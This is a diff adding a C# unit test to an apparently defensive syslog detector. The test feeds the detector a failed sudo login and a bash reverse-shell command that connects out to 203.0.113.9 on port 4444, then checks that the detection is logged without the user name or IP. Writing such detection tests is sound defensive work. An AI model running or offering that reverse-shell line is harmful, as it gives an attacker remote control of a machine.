@@ -99,6 +99,19 @@ public sealed class ServeTests : IDisposable
     }
 
     [Fact]
+    public void An_attack_that_comes_in_is_named_on_the_log_without_values_of_the_record()
+    {
+        using ServeSession serve = new(_folder);
+        using TcpClient tcp = new("127.0.0.1", serve.SyslogPort);
+        tcp.GetStream().Write("<86>Nov 22 10:00:00 web1 sudo: pam_unix(sudo:auth): authentication failure; logname=carol uid=1000 euid=0 tty=/dev/pts/0 ruser=carol rhost= user=carol\n<13>Nov 22 10:00:01 web1 bash: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"u8);
+        serve.WaitFor("palisade_findings_total", "", 1);
+        Assert.Equal(0, serve.End());
+        Assert.DoesNotContain("carol", serve.Errors + serve.Output, StringComparison.Ordinal);
+        Assert.DoesNotContain("203.0.113.9", serve.Errors + serve.Output, StringComparison.Ordinal);
+        Assert.Contains("of the vault", serve.Errors + serve.Output, StringComparison.Ordinal);
+    }
+
+    [Fact]
     public void A_wrong_configuration_is_refused_with_its_place()
     {
         string config = Path.Combine(_folder, "wrong.yaml");
